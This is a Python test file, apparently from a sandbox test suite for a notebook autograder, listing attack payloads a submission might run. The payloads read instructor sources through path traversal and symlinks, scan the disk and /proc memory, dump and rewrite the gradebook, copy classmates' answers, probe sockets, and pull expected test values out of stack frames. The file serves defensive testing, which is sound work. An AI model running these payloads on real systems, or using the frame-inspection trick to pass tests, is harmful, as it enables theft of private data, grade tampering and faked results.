"""Reading what is not the student's: the course's sources, the gradebook, a neighbour's folder."""
# ruff: noqa: E501 (attackers write long lines)

from tests.attacks.attack import Attack

# Prints every planted secret that a folder holds.
_SEARCH = """
import re, os, pathlib
def search(*folders):
    for folder in folders:
        for root, inside, names in os.walk(folder):
            inside[:] = [name for name in inside if name not in ("proc", "sys", "usr", "dev", "lib", "lib64", ".venv", "site-packages")]
            for path in pathlib.Path(root).glob("*"):
                try:
                    print(set(re.findall(rb"PLANTED-[a-z]+-[0-9a-f]{16}", path.read_bytes())) or "", end="")
                except OSError:
                    pass
"""


def _link(name, target):
    def lay(folder):
        (folder / name).symlink_to(target)

    return lay


ATTACKS = [
    Attack(
        "open the source notebook by its relative path",
        first='for up in range(1, 7):\n    try:\n        print(open("../" * up + "source/attacked/target.ipynb").read())\n'
        "    except OSError as error:\n        print(error)",
    ),
    Attack(
        "search the course's folders for the hidden tests", first=_SEARCH + 'search("../../..", "..", "/submission")'
    ),
    Attack(
        "search the whole file system with grep",
        first="import subprocess\nprint(subprocess.run(\"grep -rhoaE 'PLANTED-[a-z]+-[0-9a-f]{16}' / "
        "--exclude-dir=proc --exclude-dir=sys --exclude-dir=usr --exclude-dir=dev --exclude-dir='.venv' "
        '2>&1 | head -c 3000", shell=True, capture_output=True, timeout=30).stdout)',
        not_on_stock="would read the whole disk of whoever runs the benchmark",
    ),
    Attack(
        "open the gradebook and print it",
        first="import sqlite3, glob\nfor path in glob.glob('../../../gradebook.db') + glob.glob('/**/gradebook.db'):\n"
        "    print(list(sqlite3.connect(path).execute('select * from student')))",
    ),
    Attack(
        "write full marks into the gradebook",
        loses=("rescale", "Doubler"),
        first="""
import sqlite3, glob
for path in glob.glob("../../../gradebook.db"):
    with sqlite3.connect(path, timeout=1) as book:
        book.execute("update grade set manual_score = 5")
""",
    ),
    Attack(
        "copy a neighbour's answers",
        loses=("num_weights",),
        cells={
            "num_weights": "import glob, re\ntext = ''.join(open(p).read() for p in glob.glob('../../../submitted/*/*/*'))\n"
            "print(text)\nnum_weights = eval(re.search(r'num_weights = ([0-9* ]+)', text)[1])"
        },
    ),
    Attack(
        "look through other processes in /proc",
        first="""
import glob, os, re
for pattern in ("cmdline", "environ", "maps", "fd/*", "root/*", "cwd/*"):
    for path in glob.glob(f"/proc/[0-9]*/{pattern}"):
        try:
            file = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            print(path, os.path.realpath(path), set(re.findall(rb"PLANTED-[a-z]+-[0-9a-f]{16}", os.read(file, 1 << 20))))
            os.close(file)
        except OSError:
            pass
for up in ("/proc/1/root", "/proc/1/cwd", "/proc/self/root"):
    for name in ("source/attacked/target.ipynb", "work", "home"):
        print(os.path.exists(f"{up}/{name}"))
""",
    ),
    Attack(
        "search the process's own memory during a test",
        loses=("rescale",),
        cells={
            "rescale": """
import re
def rescale(values):
    found = set()
    for line in open("/proc/self/maps"):
        if "rw-p" not in line:
            continue
        first, last = (int(part, 16) for part in line.split()[0].split("-"))
        with open("/proc/self/mem", "rb", 0) as memory:
            memory.seek(first)
            try:
                found |= set(re.findall(rb"PLANTED-[a-z]+-[0-9a-f]{16}", memory.read(min(last - first, 50_000_000))))
            except OSError:
                pass
    print(found)
"""
        },
    ),
    Attack(
        "a link to the course's sources", first=_SEARCH + 'search("sources")', lay=_link("sources", "../../../source")
    ),
    Attack(
        "a link to the gradebook",
        first='print(open("notes.txt", "rb").read())',
        lay=_link("notes.txt", "../../../gradebook.db"),
    ),
    Attack(
        "a link to the whole disk",
        first=_SEARCH + 'search("disk/work", "disk/home", "disk/root", "disk/tmp")',
        lay=_link("disk", "/"),
        not_on_stock="nbgrader would copy the whole disk",
    ),
    Attack(
        "the time stamp is a link to a secret",
        lay=_link("timestamp.txt", "../../../private-notes.txt"),
    ),
    Attack(
        "the notebook is a link to the source notebook",
        lay=lambda folder: (
            (folder / "target.ipynb").unlink(),
            _link("target.ipynb", "../../../source/attacked/target.ipynb")(folder),
        ),
        ungradable=True,
    ),
    Attack(
        "send what can be read over the network",
        first="""
import socket
for address in (("1.1.1.1", 53), ("127.0.0.1", 8888), ("127.0.0.1", 22)):
    try:
        socket.create_connection(address, timeout=0.2)
        print("PLANTED-" + "network-" + "0" * 16)
    except OSError as error:
        print(error)
print(open("/proc/net/unix").read()[:2000])
""",
        not_on_stock="depends on the network of whoever runs the benchmark",
    ),
    Attack(
        "connect to every Unix socket of the machine",
        first="""
import glob, os, socket
paths = [line.split()[-1] for line in open("/proc/net/unix").readlines()[1:] if len(line.split()) > 7]
for path in paths + glob.glob("/run/**", recursive=True) + glob.glob("/tmp/**", recursive=True) + glob.glob("/proc/*/fd/*/k-*"):
    end = socket.socket(socket.AF_UNIX)
    end.settimeout(0.2)
    try:
        end.connect("\\0" + path[1:] if path.startswith("@") else path)
        print("connected to", path)
    except (OSError, ValueError):
        pass
    end.close()
""",
        not_on_stock="would talk to programs of whoever runs the benchmark",
    ),
    Attack(
        "read the rest of the array that an argument is cut from",
        loses=("next_terms",),
        cells={
            "next_terms": """def next_terms(head):
    return torch.as_strided(head, (3,), (1,), head.storage_offset() + len(head)).clone()"""
        },
    ),
    Attack(
        "go from an argument to what else came with it",
        loses=("next_terms", "batches"),
        cells={
            "next_terms": """
import gc
def next_terms(head):
    for thing in gc.get_objects():
        if isinstance(thing, torch.Tensor) and thing.shape == (3,) and thing.dtype == head.dtype and thing is not head:
            if thing[0] > head[-1]:
                return thing
    return head[:3]
""",
            "batches": """
import inspect, sys
def batches(items, size):
    frame = sys._getframe()
    while frame is not None:
        for name, thing in list(frame.f_locals.items()) + list(frame.f_globals.items()):
            if name in ("wanted", "expected"):
                return thing
        frame = frame.f_back
    return []
""",
        },
    ),
]
